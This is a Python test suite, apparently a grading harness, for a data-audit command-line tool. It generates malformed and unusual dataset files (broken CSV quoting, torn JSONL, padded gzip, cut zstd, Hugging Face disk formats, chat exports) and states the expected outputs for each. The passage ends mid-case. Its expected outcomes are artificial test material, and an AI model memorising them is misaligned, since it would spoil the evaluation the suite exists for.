"""Fifty first-contact cases: odd files of the world, each with its right outcome."""

from __future__ import annotations

import base64
import csv
import datetime
import decimal
import gzip
import io
import json
import os
import random
import re
import resource
import shutil
import subprocess
import sys
import uuid
import xml.etree.ElementTree as ElementTree
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pyarrow as pa
import pyarrow.compute as pc
import pyarrow.parquet as pq
from first_contact.form import Right, case

# ---------------------------------------------------------------------------------------------------------------- helpers

WORDS = (
    "harbour lantern copper meadow violin glacier saffron orchard pebble thunder walnut ferry cathedral marble juniper "
    "kettle sparrow canyon velvet anchor bakery compass dolphin ember falcon garden hammer island jacket kingdom ladder "
    "mirror needle oyster pepper quarry ribbon saddle temple umbrella valley willow yellow zipper almond barrel candle "
    "desert engine fabric ginger hollow insect jungle kitten lemon magnet nectar olive planet quiver rocket silver timber "
    "urban vessel winter acorn breeze cradle dagger eagle fiddle goblet hazel ivory jigsaw kernel lizard mosaic noodle "
    "otter parcel quilt raven signal turnip uncle vapour wizard yogurt zebra bridge clover drawer eleven forest grocer "
    "helmet indigo jasper kidney locker mitten nugget orange pillow racket sailor tunnel useful voyage wander young "
    "carried opened painted borrowed followed measured repaired listened climbed folded whispered gathered "
    "quickly slowly gently early behind beneath across without toward against"
).split()


def sentence(number: int, series: str = "a", length: int = 13) -> str:
    """A text of its own: no two share five words in a row."""
    draw = random.Random(f"{series}/{number}")
    words = [draw.choice(WORDS) for _ in range(length)]
    return " ".join(words).capitalize() + "."


def sentences(count: int, series: str) -> list[str]:
    return [sentence(number, series) for number in range(count)]


def lines(records: list[dict[str, object]]) -> str:
    return "".join(json.dumps(record, ensure_ascii=False) + "\n" for record in records)


def clean_tables(folder: Path, out: str = "out") -> Iterator[tuple[Path, pa.Table]]:
    for path in sorted((folder / out / "clean").rglob("*.parquet")):
        yield path.relative_to(folder / out / "clean"), pq.ParquetFile(path).read()


def clean_rows(folder: Path, out: str = "out") -> list[dict[str, object]]:
    return [row for _, table in clean_tables(folder, out) for row in table.to_pylist()]


def clean_text(folder: Path, out: str = "out") -> str:
    return json.dumps(clean_rows(folder, out), ensure_ascii=False, default=str)


def split_of(folder: Path, column: str = "text") -> dict[object, tuple[str, ...]]:
    """The folders below clean/ in which each text lies."""
    return {
        value: path.parts for path, table in clean_tables(folder) for value in table.column(column).to_pylist()
    }


def missing(folder: Path, phrases: list[str]) -> list[str]:
    text = clean_text(folder)
    return [f"not in clean/: {phrase!r}" for phrase in phrases if phrase not in text]


def in_quarantine(folder: Path) -> int:
    count = 0
    for path in (folder / "out" / "quarantine").rglob("*"):
        if path.suffix == ".parquet":
            count += pq.ParquetFile(path).metadata.num_rows
        elif path.suffix in (".jsonl", ".csv"):
            count += len(path.read_bytes().splitlines())
    return count


def refused(exit_code: int) -> bool:
    return exit_code in (2, 3)


def again(folder: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """Another command of the tool in the same folder."""
    beside = Path(sys.executable).with_name("dataaudit")
    program = str(beside) if beside.exists() else shutil.which("dataaudit")
    return subprocess.run(
        [program, *args], cwd=folder, text=True, errors="replace", capture_output=True, timeout=300,
        stdin=subprocess.DEVNULL, check=False,
    )


def open_to_all(folder: Path) -> None:
    """Let another user reach and write the folder of a case."""
    folder = folder.resolve()
    folder.chmod(0o777)
    for parent in folder.parents:
        if parent in (Path("/"), Path("/tmp")):
            break
        if not parent.stat().st_mode & 0o001:
            parent.chmod(parent.stat().st_mode | 0o011)


def become_nobody() -> None:
    """A user id that /etc/passwd does not know, as OpenShift and `docker run --user` give it."""
    if os.getuid() == 0:
        os.setgroups([])
        os.setgid(54321)
        os.setuid(54321)


RUN = ["run", "--input", "data", "--out", "out"]

# ------------------------------------------------------------------------------------------------------- 1 damaged records


@case(kind="damaged records", sound=False)
def csv_quote_never_closed(folder: Path) -> Right:
    """A spreadsheet edited by hand: one cell begins with a quote that nobody closed; the rest of the file has no quote."""
    texts = sentences(60, "unclosed")
    with (folder / "reviews.csv").open("w", newline="") as file:
        file.write("id,text,label\n")
        for number, text in enumerate(texts, 1):
            file.write(f'{number},{chr(34) if number == 31 else ""}{text},{"good" if number % 2 else "bad"}\n')

    def check(folder: Path, stdout: str, stderr: str, exit_code: int) -> list[str]:
        if refused(exit_code):
            return []
        kept = [str(row["text"]) for row in clean_rows(folder)]
        wrong = [f"rows merged into one: {text[:60]!r}" for text in kept if "\n" in text]
        wrong += [f"lost before the quote: {text!r}" for text in texts[:30] if text not in kept]
        told = in_quarantine(folder) or re.search(r"\bquot|unclosed|not closed", stdout + stderr, re.IGNORECASE)
        if any(text not in kept for text in texts) and not told:
            wrong.append("rows behind the quote are lost and nothing is said")
        return wrong

    return Right(
        args=["run", "--input", "reviews.csv", "--out", "out"],
        exit_codes={0, 2, 3},
        refusal_is_fine=True,
        check=check,
        why="one quote must not swallow the other half of the file in silence: quarantine, recovery or refusal",
    )


@case(kind="damaged records", sound=False)
def jsonl_torn_by_two_writers(folder: Path) -> Right:
    """Two crawler processes append to one file without a lock: one line is cut into by the other's line."""
    records = [{"id": number, "text": text, "source": "w1"} for number, text in enumerate(sentences(402, "torn"))]
    whole = [json.dumps(record) for record in records]
    first, second = whole[200], whole[201]
    middle = len(first) // 2
    body = whole[:200] + [first[:middle] + second, first[middle:]] + whole[202:]
    (folder / "crawl.jsonl").write_text("\n".join(body) + "\n")
    return Right(
        args=["run", "--input", "crawl.jsonl", "--out", "out"],
        exit_codes={0},
        rows=records[:200] + records[202:],
        quarantined=2,
        says=[r"quarantin|unreadable|could not be read"],
        refusal_is_fine=True,
        why="two lines of 402 are no JSON and are quarantined; all others are whole",
    )


@case(kind="damaged records", sound=True)
def gzip_padded_with_zeros(folder: Path) -> Right:
    """A gzip file that came from a tape or a block device: padded with zero bytes to 10,240. gzip(1) ignores these."""
    records = [{"id": number, "text": text} for number, text in enumerate(sentences(12, "tape"))]
    body = gzip.compress(lines(records).encode())
    (folder / "archive.jsonl.gz").write_bytes(body + bytes(10240 - len(body)))
    return Right(
        args=["run", "--input", "archive.jsonl.gz", "--out", "out"],
        exit_codes={0},
        rows=records,
        quarantined=0,
        why="trailing zero bytes are padding, which gzip(1), zcat and Python's gzip all accept; all 12 rows are there",
    )


@case(kind="damaged records", sound=False)
def zstd_cut_in_third_frame(folder: Path) -> Right:
    """A download that broke off: three zstd frames (as pzstd and log shippers write them), the third is cut."""
    import zstandard

    records = [{"id": number, "text": text} for number, text in enumerate(sentences(300, "zstd"))]
    frames = [
        zstandard.ZstdCompressor(level=3, write_checksum=True).compress(lines(records[start : start + 100]).encode())
        for start in (0, 100, 200)
    ]
    (folder / "part.jsonl.zst").write_bytes(frames[0] + frames[1] + frames[2][: len(frames[2]) // 2])

    def check(folder: Path, stdout: str, stderr: str, exit_code: int) -> list[str]:
        if refused(exit_code):
            return []
        kept = {row["text"] for row in clean_rows(folder)}
        return [f"lost from a whole frame: {record['id']}" for record in records[:200] if record["text"] not in kept]

    return Right(
        args=["run", "--input", "part.jsonl.zst", "--out", "out"],
        exit_codes={0, 2, 3},
        refusal_is_fine=True,
        says=[r"\bcut\b|trunca|damag|incomplete|corrupt|unexpected|\bends\b|\bended\b|broken|\btail\b"],
        check=check,
        why="the cut must be told; if the run goes on, the 200 rows of the two whole frames are there",
    )


@case(kind="damaged records", sound=True)
def tsv_whose_quotes_are_only_text(folder: Path) -> Right:
    """Sentences of Tatoeba: tabs separate, nothing is quoted; a text begins with a quote, a later one ends with one."""
    texts = sentences(10, "tatoeba")
    texts[3] = '"Stop right there! shouted the ticket inspector across the platform.'
    texts[5] = '"Perhaps tomorrow," answered the baker, closing his shutters against the rain.'
    texts[7] = 'We shall not cross that river a second time, he said."'
    body = "id\tlang\ttext\n" + "".join(f"{1276 + n}\teng\t{text}\n" for n, text in enumerate(texts))
    (folder / "sentences.tsv").write_text(body)
    return Right(
        args=["run", "--input", "sentences.tsv", "--out", "out"],
        exit_codes={0},
        rows=[{"lang": "eng", "text": text} for text in texts],
        quarantined=0,
        refusal_is_fine=True,
        why="every line has an id, a language and a text; read as CSV, lines 5 to 9 would melt into one record",
    )


@case(kind="damaged records", sound=False)
def csv_with_one_comma_too_many(folder: Path) -> Right:
    """Written with print() instead of a CSV writer: one text has a comma and no quotes; one line lacks its last cell."""
    texts = sentences(300, "ragged")
    body = ["id,text,label"]
    for number, text in enumerate(texts):
        label = "good" if number % 2 else "bad"
        if number == 120:
            body.append(f"{number},Well, {text},{label}")
        elif number == 180:
            body.append(f"{number},{text}")
        else:
            body.append(f"{number},{text},{label}")
    (folder / "printed.csv").write_text("\n".join(body) + "\n")

    def check(folder: Path, stdout: str, stderr: str, exit_code: int) -> list[str]:
        if refused(exit_code):
            return []
        kept = {row["text"]: row.get("label") for row in clean_rows(folder)}
        wrong = [
            f"row {number} is lost or has another label"
            for number, text in enumerate(texts)
            if number not in (120, 180) and kept.get(text) != ("good" if number % 2 else "bad")
        ]
        if "Well" in kept or any(label not in ("good", "bad", None, "") for label in kept.values()):
            wrong.append("cells of the line with a comma too many were moved into other columns")
        if f"Well, {texts[120]}" not in kept and not in_quarantine(folder):
            wrong.append("the line with a comma too many is neither in clean/ nor in quarantine/")
        if texts[180] not in kept and not in_quarantine(folder):
            wrong.append("the line that lacks its last cell is neither in clean/ nor in quarantine/")
        return wrong

    return Right(
        args=["run", "--input", "printed.csv", "--out", "out"],
        exit_codes={0},
        refusal_is_fine=True,
        says=[r"quarantin|unreadable|could not be read|fields|cells"],
        check=check,
        why="a line of four cells under a header of three cannot be assigned: it is quarantined, not shifted",
    )

# --------------------------------------------------------------------------------------------------- 2 splits and features


def wrong_splits(folder: Path, expected: dict[str, str], column: str = "text") -> list[str]:
    found = split_of(folder, column)
    return [
        f"{text[:40]!r} should be in split {split}, is in {'/'.join(found.get(text, ('nowhere',)))}"
        for text, split in expected.items()
        if split not in found.get(text, ())
    ]


@case(kind="splits and features", sound=True)
def glue_saved_to_disk(folder: Path) -> Right:
    """SST-2 by load_dataset().save_to_disk(): class labels, and a test split whose labels are all -1 (hidden)."""
    from datasets import ClassLabel, Dataset, DatasetDict, Features, Value

    features = Features(
        {"idx": Value("int32"), "sentence": Value("string"), "label": ClassLabel(names=["negative", "positive"])}
    )
    splits = {"train": 8, "validation": 4, "test": 5}
    rows: list[dict[str, object]] = []
    expected: dict[str, str] = {}
    parts = {}
    for split, count in splits.items():
        own = [
            {"idx": number, "sentence": sentence(number, f"sst-{split}"), "label": -1 if split == "test" else number % 2}
            for number in range(count)
        ]
        parts[split] = Dataset.from_list(own, features=features)
        rows += own
        expected |= {str(row["sentence"]): split for row in own}
    DatasetDict(parts).save_to_disk(str(folder / "sst2"))
    return Right(
        args=["run", "--input", "sst2", "--out", "out"],
        exit_codes={0},
        rows=rows,
        quarantined=0,
        check=lambda folder, stdout, stderr, code: wrong_splits(folder, expected, "sentence"),
        why="a class label is an integer, -1 means hidden; all three splits are kept under their names",
    )


@case(kind="splits and features", sound=True)
def saved_dataset_with_map_cache(folder: Path) -> Right:
    """load_from_disk(...).map(...) leaves cache-<fingerprint>.arrow beside the data; state.json names the real files."""
    from datasets import Dataset

    records = [{"text": text, "stars": 1 + number % 5} for number, text in enumerate(sentences(9, "mapcache"))]
    Dataset.from_list(records).save_to_disk(str(folder / "reviews"))
    mapped = pa.table(
        {
            "text": [" ".join(reversed(str(record["text"]).split())) for record in records],
            "stars": [record["stars"] for record in records],
            "length": [len(str(record["text"])) for record in records],
        }
    )
    cache = folder / "reviews" / "cache-3f1b0c9a7d5e2846.arrow"
    with pa.OSFile(str(cache), "wb") as sink, pa.ipc.new_stream(sink, mapped.schema) as writer:
        writer.write_table(mapped)
    return Right(
        args=["run", "--input", "reviews", "--out", "out"],
        exit_codes={0},
        rows=records,
        quarantined=0,
        why="load_from_disk() reads the files of state.json; what map() cached there is no part of the data set",
    )


@case(kind="splits and features", sound=True)
def squad_v2_with_blind_test(folder: Path) -> Right:
    """SQuAD 2.0 saved to disk: answers are a struct of lists, empty where unanswerable; the test split has no answers."""
    from datasets import Dataset, DatasetDict, Features, Sequence, Value

    base = {"id": Value("string"), "title": Value("string"), "context": Value("string"), "question": Value("string")}
    answers = Sequence({"text": Value("string"), "answer_start": Value("int32")})
    train: list[dict[str, object]] = []
    for number in range(8):
        context = sentence(number, "squad-context", 30)
        word = context.split()[4]
        given = {"text": [], "answer_start": []} if number % 3 == 0 else {
            "text": [word], "answer_start": [context.index(word)]
        }
        train.append({
            "id": f"56be4db0acb8000{number:09d}", "title": f"Subject_{number}", "context": context,
            "question": sentence(number, "squad-question", 9)[:-1] + "?", "answers": given,
        })
    test = [
        {
            "id": f"5ad39d53604f3c00{number:08d}", "title": f"Hidden_{number}",
            "context": sentence(number, "squad-blind", 30), "question": sentence(number, "squad-ask", 9)[:-1] + "?",
        }
        for number in range(4)
    ]
    DatasetDict(
        {
            "train": Dataset.from_list(train, features=Features(base | {"answers": answers})),
            "test": Dataset.from_list(test, features=Features(base)),
        }
    ).save_to_disk(str(folder / "squad"))
    expected = {str(row["question"]): "train" for row in train} | {str(row["question"]): "test" for row in test}
    return Right(
        args=["run", "--input", "squad", "--template", "{question}\n{context}", "--out", "out"],
        exit_codes={0},
        rows=train + test,
        quarantined=0,
        check=lambda folder, stdout, stderr, code: wrong_splits(folder, expected, "question"),
        why="an empty list of answers is a value and no null; a split may lack a column that another has",
    )


@case(kind="splits and features", sound=True)
def card_contradicts_file_names(folder: Path) -> Right:
    """A repository of the hub whose card says that `test_drives.csv` (reviews of test drives) is the training split."""
    data = folder / "cars" / "data"
    data.mkdir(parents=True)
    (folder / "cars" / "README.md").write_text(
        "---\nlicense: cc-by-4.0\nlanguage:\n- en\nconfigs:\n- config_name: default\n  data_files:\n"
        '  - split: train\n    path: "data/test_drives.csv"\n  - split: test\n    path: "data/held_back*.csv"\n'
        "---\n\n# Car reviews\n\nReviews of test drives, collected by hand.\n"
    )
    expected: dict[str, str] = {}
    rows: list[dict[str, object]] = []
    for name, split, count in (("test_drives", "train", 8), ("held_back_1", "test", 3), ("held_back_2", "test", 3)):
        with (data / f"{name}.csv").open("w", newline="") as file:
            writer = csv.writer(file)
            writer.writerow(["text", "label"])
            for number, text in enumerate(sentences(count, name)):
                label = "praise" if number % 2 else "complaint"
                writer.writerow([text, label])
                expected[text] = split
                rows.append({"text": text, "label": label})
    return Right(
        args=["run", "--input", "cars", "--out", "out"],
        exit_codes={0},
        rows=rows,
        quarantined=0,
        check=lambda folder, stdout, stderr, code: wrong_splits(folder, expected),
        why="the card states the splits; a word in a file name does not overrule it; the card itself is no data",
    )


@case(kind="splits and features", sound=True)
def names_that_only_look_like_splits(folder: Path) -> Right:
    """Files of a crawl by subject: latest, contest_winners, devotional, ...; none is a split."""
    (folder / "data").mkdir()
    rows: list[dict[str, object]] = []
    for name in ("latest", "contest_winners", "devotional", "trainspotting", "invalidated_visas"):
        own = [{"text": text, "topic": name} for text in sentences(4, f"look-{name}")]
        (folder / "data" / f"{name}.jsonl").write_text(lines(own))
        rows += own

    def check(folder: Path, stdout: str, stderr: str, exit_code: int) -> list[str]:
        names = {"train", "test", "dev", "valid", "validation", "eval"}
        return [
            f"{text!r} was put into a split: {'/'.join(parts)}"
            for text, parts in split_of(folder).items()
            if names & set(parts)
        ]

    return Right(
        args=RUN,
        exit_codes={0},
        rows=rows,
        quarantined=0,
        check=check,
        why="no file name has `train`, `dev`, `test` or `valid` as a word of its own, so there are no splits",
    )


@case(kind="splits and features", sound=True)
def cache_folder_of_datasets(folder: Path) -> Right:
    """~/.cache/huggingface/datasets/imdb: Arrow streams by split, dataset_info.json, and the empty lock files beside."""
    from datasets import ClassLabel, Dataset, Features, Value

    features = Features({"text": Value("string"), "label": ClassLabel(names=["neg", "pos"])})
    version = folder / "imdb" / "plain_text" / "0.0.0"
    build = version / "e6281661ce1c48d982bc483cf8a173c1bbeb5d31"
    build.mkdir(parents=True)
    (version / f"{build.name}_builder.lock").touch()
    (version / f"{build.name}.incomplete_info.lock").touch()
    rows: list[dict[str, object]] = []
    expected: dict[str, str] = {}
    sizes = {"train": 8, "test": 4, "unsupervised": 5}
    for split, count in sizes.items():
        own = [
            {"text": text, "label": -1 if split == "unsupervised" else number % 2}
            for number, text in enumerate(sentences(count, f"imdb-{split}"))
        ]
        table = Dataset.from_list(own, features=features).with_format("arrow")[:]
        table = table.cast(features.arrow_schema)
        with pa.OSFile(str(build / f"imdb-{split}.arrow"), "wb") as sink, pa.ipc.new_stream(sink, table.schema) as writer:
            writer.write_table(table, max_chunksize=3)
        rows += own
        expected |= {str(row["text"]): split for row in own}
    (build / "dataset_info.json").write_text(
        json.dumps(
            {
                "description": "", "citation": "", "homepage": "", "license": "",
                "features": {
                    "text": {"dtype": "string", "_type": "Value"},
                    "label": {"names": ["neg", "pos"], "_type": "ClassLabel"},
                },
                "builder_name": "parquet", "dataset_name": "imdb", "config_name": "plain_text",
                "version": {"version_str": "0.0.0", "major": 0, "minor": 0, "patch": 0},
                "splits": {
                    name: {"name": name, "num_bytes": 900, "num_examples": count, "dataset_name": "imdb"}
                    for name, count in sizes.items()
                },
                "download_size": 83446840, "dataset_size": 133202802, "size_in_bytes": 216649642,
            }
        )
    )
    return Right(
        args=["run", "--input", "imdb", "--out", "out"],
        exit_codes={0},
        rows=rows,
        quarantined=0,
        check=lambda folder, stdout, stderr, code: wrong_splits(
            folder, {text: split for text, split in expected.items() if split != "unsupervised"}
        ),
        why="the three Arrow files are the data; lock files are empty and dataset_info.json describes the data",
    )

# --------------------------------------------------------------------------------------------------------- 3 JSON containers


@case(kind="json container", sound=True)
def telegram_export(folder: Path) -> Right:
    """result.json of Telegram Desktop: `text` is a string, or a list of strings and objects where a message has links."""
    told = sentences(9, "telegram")
    messages: list[dict[str, object]] = []
    for number, text in enumerate(told):
        plain: dict[str, object] = {
            "id": 41200 + number, "type": "message", "date": f"2023-11-0{number + 1}T18:22:31",
            "date_unixtime": str(1698862951 + 86400 * number), "from": "Ada" if number % 2 else "Brook",
            "from_id": f"user{5100 + number % 2}", "text": text, "text_entities": [{"type": "plain", "text": text}],
        }
        if number in (2, 5):
            plain["text"] = [
                text + " ", {"type": "link", "text": f"https://example.org/page{number}"}, " tail piece " + str(number),
            ]
            plain["text_entities"] = [
                {"type": "plain", "text": text + " "},
                {"type": "link", "text": f"https://example.org/page{number}"},
                {"type": "plain", "text": " tail piece " + str(number)},
            ]
        if number == 7:
            plain |= {"reply_to_message_id": 41203, "edited": "2023-11-08T19:00:00", "edited_unixtime": "1699470000"}
        messages.append(plain)
    (folder / "result.json").write_text(
        json.dumps({"name": "Rowing club", "type": "private_supergroup", "id": 1374920011, "messages": messages}, indent=1)
    )
    phrases = [*told, "https://example.org/page2", "https://example.org/page5", "tail piece 2", "tail piece 5"]

    def check(folder: Path, stdout: str, stderr: str, exit_code: int) -> list[str]:
        return [] if refused(exit_code) else missing(folder, phrases)

    return Right(
        args=["run", "--input", "result.json", "--out", "out"],
        exit_codes={0},
        refusal_is_fine=True,
        check=check,
        why="nine messages; a text of several parts keeps all parts, in whatever form",
    )


@case(kind="json container", sound=True)
def chatgpt_conversations(folder: Path) -> Right:
    """conversations.json of a ChatGPT export: an array, each record a tree whose keys are node ids; empty objects inside."""
    phrases: list[str] = []
    titles = [sentence(number, "gpt-title", 6)[:-1] for number in range(6)]
    conversations: list[dict[str, object]] = []
    draw = random.Random("chatgpt")
    for number, title in enumerate(titles):
        ids = [str(uuid.UUID(int=draw.getrandbits(128), version=4)) for _ in range(4)]
        mapping: dict[str, object] = {ids[0]: {"id": ids[0], "message": None, "parent": None, "children": [ids[1]]}}
        for step in range(1, 4):
            said = sentence(10 * number + step, "gpt-said")
            phrases += [said, ids[step]]
            parts: list[object] = [said]
            if number == 3 and step == 1:
                parts = [{"content_type": "image_asset_pointer", "asset_pointer": "file-service://file-Zk81", "width": 640}, said]
                phrases.append("file-service://file-Zk81")
            mapping[ids[step]] = {
                "id": ids[step],
                "message": {
                    "id": ids[step],
                    "author": {"role": "user" if step % 2 else "assistant", "name": None, "metadata": {}},
                    "create_time": 1700000000.123457 + step if step < 3 else None,
                    "content": {"content_type": "text", "parts": parts}, "status": "finished_successfully",
                    "weight": 1.0, "metadata": {} if step == 1 else {"finish_details": {"type": "stop", "stop_tokens": [100260]}},
                    "recipient": "all",
                },
                "parent": ids[step - 1], "children": [ids[step + 1]] if step < 3 else [],
            }
        conversations.append({
            "title": title, "create_time": 1700000000.5 + number, "mapping": mapping, "moderation_results": [],
            "current_node": ids[3], "plugin_ids": None, "conversation_id": ids[0], "is_archived": False,
        })
    (folder / "conversations.json").write_text(json.dumps(conversations))

    def check(folder: Path, stdout: str, stderr: str, exit_code: int) -> list[str]:
        return missing(folder, phrases)

    return Right(
        args=["run", "--input", "conversations.json", "--template", "{title}", "--out", "out"],
        exit_codes={0},
        rows=[{"title": title, "is_archived": False} for title in titles],
        quarantined=0,
        check=check,
        why="a plain array of six objects; the trees under `mapping` must survive, as a struct or as JSON text",
    )


@case(kind="json container", sound=True)
def pandas_table_export(folder: Path) -> Right:
    """DataFrame.to_json(orient="table"): the rows are under `data`; `schema.fields` is a list of objects as well."""
    rows = [
        {"index": number, "text": text, "rating": 1 + number % 5, "when": f"2024-02-{number + 1:02d}T09:30:00.000Z"}
        for number, text in enumerate(sentences(9, "pandas-table"))
    ]
    schema = {
        "fields": [
            {"name": "index", "type": "integer"}, {"name": "text", "type": "string"},
            {"name": "rating", "type": "integer"}, {"name": "when", "type": "datetime", "tz": "UTC"},
        ],
        "primaryKey": ["index"], "pandas_version": "1.4.0",
    }
    (folder / "frame.json").write_text(json.dumps({"schema": schema, "data": rows}, separators=(",", ":")))
    return Right(
        args=["run", "--input", "frame.json", "--out", "out"],
        exit_codes={0},
        rows=[{"index": row["index"], "text": row["text"], "rating": row["rating"]} for row in rows],
        quarantined=0,
        says=[r"\bdata\b"],
        refusal_is_fine=True,
        why="`data` is the one list of records at the top; the fields of the schema are no rows",
    )


@case(kind="json container", sound=False)
def gzip_days_joined_without_newline(folder: Path) -> Right:
    """`cat day1.jsonl.gz day2.jsonl.gz > both.jsonl.gz`; day 1 has no newline at its end, so two objects share a line."""
    records = [{"id": number, "text": text} for number, text in enumerate(sentences(400, "days"))]
    first = lines(records[:200]).rstrip("\n").encode()
    (folder / "both.jsonl.gz").write_bytes(gzip.compress(first) + gzip.compress(lines(records[200:]).encode()))

    def check(folder: Path, stdout: str, stderr: str, exit_code: int) -> list[str]:
        if refused(exit_code):
            return []
        kept = {row["text"] for row in clean_rows(folder)}
        wrong = [f"row {record['id']} is lost" for record in records if record["id"] not in (199, 200) and record["text"] not in kept]
        seam = [record["id"] for record in (records[199], records[200]) if record["text"] not in kept]
        if len(seam) == 1:
            wrong.append(f"of the two objects on one line only one was read; lost: {seam}")
        if seam and not in_quarantine(folder):
            wrong.append("the line with two objects is neither in clean/ nor in quarantine/")
        return wrong

    return Right(
        args=["run", "--input", "both.jsonl.gz", "--out", "out"],
        exit_codes={0},
        refusal_is_fine=True,
        check=check,
        why="the second gzip member must be read; the line with two objects is read as two rows or quarantined as it is",
    )


@case(kind="json container", sound=True)
def phpmyadmin_export(folder: Path) -> Right:
    """phpMyAdmin's JSON export: an array of a header, a database and a table; the rows are in `data` of the table."""
    rows = [
        {"id": str(number + 1), "body": text, "stars": str(1 + number % 5)}
        for number, text in enumerate(sentences(8, "phpmyadmin"))
    ]
    body = ",\n".join(json.dumps(row) for row in rows)
    (folder / "reviews.json").write_text(
        '[\n{"type":"header","version":"5.2.1","comment":"Export to JSON plugin for PHPMyAdmin"},\n'
        '{"type":"database","name":"shop"},\n'
        f'{{"type":"table","name":"reviews","database":"shop","data":\n[\n{body}\n]\n}}\n]\n'
    )

    def check(folder: Path, stdout: str, stderr: str, exit_code: int) -> list[str]:
        return [] if refused(exit_code) else missing(folder, [str(row["body"]) for row in rows])

    return Right(
        args=["run", "--input", "reviews.json", "--out", "out"],
        exit_codes={0},
        refusal_is_fine=True,
        check=check,
        why="either the eight rows are read or the file is refused; three rows that lack the reviews are a loss",
    )


@case(kind="json container", sound=True)
def records_by_isbn(folder: Path) -> Right:
    """One object, ISBN to record: ids with leading zeros, and the records have an `id` of their own."""
    isbns = ["0007158440", "0007176198", "000720230X", "0060254920", "0064400557", "0099908401", "0140328726"]
    rows = [
        {"id": number + 1, "text": text, "shelf": f"s-{number}"} for number, text in enumerate(sentences(7, "isbn"))
    ]
    (folder / "books.json").write_text(json.dumps(dict(zip(isbns, rows, strict=True))))

    def check(folder: Path, stdout: str, stderr: str, exit_code: int) -> list[str]:
        kept = {row["text"]: list(row.values()) for row in clean_rows(folder)}
        return [
            f"the key {isbn} of {row['text'][:30]!r} is lost"
            for isbn, row in zip(isbns, rows, strict=True)
            if isbn not in kept.get(row["text"], [])
        ]

    return Right(
        args=["run", "--input", "books.json", "--out", "out"],
        exit_codes={0},
        rows=rows,
        quarantined=0,
        check=check,
        why="records by their id are read; the key is data, a string with its zeros, and must not replace the field `id`",
    )


# -------------------------------------------------------------------------------------------------- 4 nesting and wide rows


def from_json(value: object) -> object:
    """What a value says where it, or a part of it, was kept as JSON text; members that are null are left out."""
    if isinstance(value, str) and value[:1] in ("{", "[", '"'):
        try:
            return from_json(json.loads(value))
        except ValueError:
            return value
    if isinstance(value, dict):
        return {key: from_json(item) for key, item in value.items() if item is not None}
    if isinstance(value, list):
        return [from_json(item) for item in value]
    return value


@case(kind="nesting and wide rows", sound=True)
def doccano_spans(folder: Path) -> Right:
    """JSONL of doccano: `label` is a list of [start, end, "TYPE"], numbers and texts in one list; `Comments` always empty."""
    records: list[dict[str, object]] = []
    for number, text in enumerate(sentences(10, "doccano")):
        spans: list[object] = [] if number % 4 == 0 else [[0, 7, "PER"], [9, 14 + number, "LOC"]][: 1 + number % 2]
        records.append({"id": 300 + number, "text": text, "label": spans, "Comments": []})
    (folder / "admin.jsonl").write_text(lines(records))

    def check(folder: Path, stdout: str, stderr: str, exit_code: int) -> list[str]:
        kept = {row["text"]: row for row in clean_rows(folder)}
        wrong = []
        for record in records:
            row = kept.get(record["text"], {})
            for column in ("label", "Comments"):
                if from_json(row.get(column)) != record[column]:
                    wrong.append(f"{column} of {record['id']} was {record[column]!r}, is {row.get(column)!r}")
        return wrong

    return Right(
        args=["run", "--input", "admin.jsonl", "--out", "out"],
        exit_codes={0},
        rows=[{"id": record["id"], "text": record["text"]} for record in records],
        quarantined=0,
        check=check,
        why="lists of mixed types have no Arrow type: kept as JSON text (and named) or otherwise whole, 0 stays a number",
    )


@case(kind="nesting and wide rows", sound=True)
def wei_and_snowflakes(folder: Path) -> Right:
    """Transactions: amounts in wei up to 2**256-1 as JSON numbers, and a column of whole numbers above 2**53 and fractions."""
    wei: list[object] = [0, 21000, 1500000000000000000, 2**64, 2**256 - 1, 10**24 + 7]
    mixed: list[object] = [9007199254740993, 0.5, 3, -9223372036854775808, 18446744073709551615, 1e-7]
    snow = [1755555555555555553 + number for number in range(6)]
    texts = sentences(6, "wei")
    records = [
        {"text": text, "wei": amount, "level": level, "snowflake": flake}
        for text, amount, level, flake in zip(texts, wei, mixed, snow, strict=True)
    ]
    (folder / "transactions.jsonl").write_text(lines(records))

    def exact(value: object, expected: object) -> bool:
        if isinstance(expected, float):
            try:
                return not isinstance(value, bool) and float(str(value)) == expected
            except ValueError:
                return False
        if isinstance(value, float):
            return abs(value) < 2**53 and value == expected
        try:
            return decimal.Decimal(str(value)) == expected
        except decimal.InvalidOperation:
            return False

    def check(folder: Path, stdout: str, stderr: str, exit_code: int) -> list[str]:
        kept = {row["text"]: row for row in clean_rows(folder)}
        return [
            f"{column} was {record[column]!r}, is {kept.get(record['text'], {}).get(column)!r}"
            for record in records
            for column in ("wei", "level")
            if not exact(kept.get(record["text"], {}).get(column), record[column])
        ]

    return Right(
        args=["run", "--input", "transactions.jsonl", "--out", "out"],
        exit_codes={0},
        rows=[{"text": record["text"], "snowflake": record["snowflake"]} for record in records],
        quarantined=0,
        check=check,
        why="JSON numbers have no limit; digits must not be lost to 64 bits or floats, so text or decimals are right",
    )


@case(kind="nesting and wide rows", sound=True)
def hacker_news_thread(folder: Path) -> Right:
    """Items of the Hacker News API at Algolia: comments in comments, 64 deep in one row, none in another."""
    phrases: list[str] = []

    def item(story: int, depth: int, deepest: int) -> dict[str, object]:
        text = sentence(depth, f"hn-{story}")
        phrases.append(text)
        return {
            "id": 1000 * story + depth, "created_at_i": 1700000000 + depth, "type": "comment" if depth else "story",
            "author": f"user{depth % 7}", "title": None if depth else sentence(story, "hn-title", 7), "url": None,
            "text": text, "points": None if depth else 10 + story, "parent_id": 1000 * story + depth - 1 if depth else None,
            "children": [item(story, depth + 1, deepest)] if depth < deepest else [],
        }

    records = [item(story, 0, deepest) for story, deepest in enumerate((0, 3, 64, 1, 12, 0), 1)]
    (folder / "items.jsonl").write_text(lines(records))

    def check(folder: Path, stdout: str, stderr: str, exit_code: int) -> list[str]:
        return missing(folder, phrases)

    return Right(
        args=["run", "--input", "items.jsonl", "--out", "out"],
        exit_codes={0},
        rows=[{"id": record["id"], "text": record["text"], "points": record["points"]} for record in records],
        quarantined=0,
        check=check,
        why="depth is no defect: the deepest comment is in clean/, as a struct or as JSON text",
    )


@case(kind="nesting and wide rows", sound=True)
def parquet_of_a_database(folder: Path) -> Right:
    """Parquet written by a warehouse: decimal(38,18), nanoseconds with a zone, dates before 1970, bytes, map, uint64, UUID."""
    count = 6
    moment = 1700000000123456789
    columns = {
        "text": pa.array(sentences(count, "warehouse")),
        "price": pa.array(
            [decimal.Decimal("12345678901234567890.123456789012345678"), decimal.Decimal("-0.000000000000000001"), None,
